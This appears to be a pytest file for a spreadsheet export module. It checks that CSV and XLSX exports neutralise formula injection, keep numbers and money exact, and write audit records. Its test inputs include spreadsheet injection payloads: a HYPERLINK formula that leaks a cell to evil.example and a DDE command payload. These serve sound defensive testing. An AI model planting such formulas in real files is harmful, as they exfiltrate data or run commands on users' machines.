"""Tables that leave the desk: nothing in them runs, nothing is lost, and the trail knows who took what."""

import csv
import io
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.http import FileResponse
from moneyed import Money
from openpyxl import load_workbook

from organisation import audit, exports
from organisation.models import AuditEvent, AuditNote, Organisation, User

pytestmark = pytest.mark.usefixtures("liferaft")
NOW = datetime(2026, 3, 1, 4, 30, tzinfo=UTC)
MALICIOUS = [
    '=HYPERLINK("http://evil.example?"&A1,"receipt")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def taken(form: exports.Form, rows: Any, by: User, columns: Sequence[str] = ("Name", "Value")) -> bytes:
    table = exports.Table("All gifts", columns, rows)
    answer = exports.download(table=table, form=form, by=by, action="test.gifts_exported", at=NOW, note="q=ann")
    content = b"".join(answer)
    put_away(answer)
    return content


def put_away(answer: FileResponse) -> None:
    """Close the file alone: closing the answer, as a server does, would end the test's transaction."""
    assert answer.file_to_stream
    answer.file_to_stream.close()


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def read_xlsx(content: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


@pytest.mark.parametrize("name", MALICIOUS)
def test_text_never_becomes_a_formula(name: str, fay: User) -> None:
    of_csv = read_csv(taken(exports.Form.CSV, [[name, 1]], fay))
    of_xlsx = read_xlsx(taken(exports.Form.XLSX, [[name, 1]], fay))

    assert of_csv[1][0] == f"'{name}" or of_csv[1][0].replace("'", "") == name.replace("'", "")
    assert of_csv[1][0].startswith("'")
    assert of_xlsx[1][0].data_type == "s"
    assert of_xlsx[1][0].value.strip() == name.strip()


def test_text_does_not_run_where_semicolons_part_cells(fay: User) -> None:
    content = taken(exports.Form.CSV, [[1, "Ann;=1+1;"]], fay)

    cells = list(csv.reader(io.StringIO(content.decode()), delimiter=";"))[1]
    assert [cell for cell in cells if cell.startswith("=")] == []


def test_heading_is_disarmed_too(fay: User) -> None:
    assert read_csv(taken(exports.Form.CSV, [], fay, columns=["=1+1"])) == [["'=1+1"]]


def test_numbers_stay_numbers_and_money_keeps_its_cents(fay: User) -> None:
    row = [-3, Decimal("-12.50"), Money("0.10", "USD"), Money("500", "JPY"), None]

    content = taken(exports.Form.CSV, [row], fay, columns=list("abcde"))
    sheet = read_xlsx(taken(exports.Form.XLSX, [row], fay, columns=list("abcde")))

    assert content.splitlines()[1] == b'-3,-12.50,0.10,500,""'
    assert [(cell.data_type, cell.value) for cell in sheet[1][:4]] == [("n", -3), ("n", -12.5), ("n", 0.1), ("n", 500)]


def test_times_are_those_of_the_organisation(fay: User) -> None:
    content = taken(exports.Form.CSV, [[NOW, date(2026, 3, 1)]], fay)
    sheet = read_xlsx(taken(exports.Form.XLSX, [[NOW, date(2026, 3, 1)]], fay))

    assert read_csv(content)[1] == ["2026-02-28 23:30:00", "2026-03-01"]
    assert sheet[1][0].value == datetime(2026, 2, 28, 23, 30)
    assert sheet[1][1].is_date


def test_text_comes_through_whole(fay: User) -> None:
    text = 'Núñez, "Ñ" & Co.\nsecond line 💛'

    assert read_csv(taken(exports.Form.CSV, [[text, 1]], fay))[1][0] == text
    assert read_xlsx(taken(exports.Form.XLSX, [[text + "\x0b", 1]], fay))[1][0].value == text


@pytest.mark.parametrize("form", list(exports.Form))
def test_trail_says_who_took_how_many_rows_and_seals_what_was_searched(form: exports.Form, fay: User) -> None:
    taken(form, [["Ann", 1], ["Ben", 2]], fay)

    event = AuditEvent.objects.get(action="test.gifts_exported")
    assert (event.actor_id, event.object_type, event.reason) == (fay.pk, Organisation._meta.label, f"{form}:2")
    assert AuditNote.objects.filter(position=event.position).exists()
    assert list(audit.broken_links()) == []


@pytest.mark.parametrize("form", list(exports.Form))
def test_export_that_breaks_is_no_export(form: exports.Form, fay: User) -> None:
    def rows() -> Iterator[list[str | int]]:
        yield ["Ann", 1]
        raise LookupError

    with pytest.raises(LookupError):
        taken(form, rows(), fay)

    assert not AuditEvent.objects.filter(action="test.gifts_exported").exists()


def test_file_is_named_after_table_and_day_and_kept_by_no_cache(fay: User) -> None:
    table = exports.Table("All gifts", ["a"], [])
    answer = exports.download(table=table, form=exports.Form.XLSX, by=fay, action="test.gifts_exported", at=NOW)

    assert answer["Content-Disposition"] == 'attachment; filename="all-gifts-2026-02-28.xlsx"'
    assert answer["Cache-Control"] == "private, no-store"
    put_away(answer)


# Measuring makes it ten times slower, so the slower form is measured with fewer rows.
@pytest.mark.parametrize(("form", "count"), [(exports.Form.CSV, 50_000), (exports.Form.XLSX, 5_000)])
def test_thousands_of_rows_take_the_memory_of_few(form: exports.Form, count: int, fay: User) -> None:
    def rows(count: int) -> Iterator[list[exports.Cell]]:
        for number in range(count):
            yield [f"Supporter {number} of the long table", number, NOW, Money(number, "USD")]

    def peak(count: int) -> int:
        tracemalloc.start()
        table = exports.Table("Many", list("abcd"), rows(count))
        put_away(exports.download(table=table, form=form, by=fay, action="test.gifts_exported", at=NOW))
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    few, many = peak(200), peak(count)

    assert many < few + 500_000
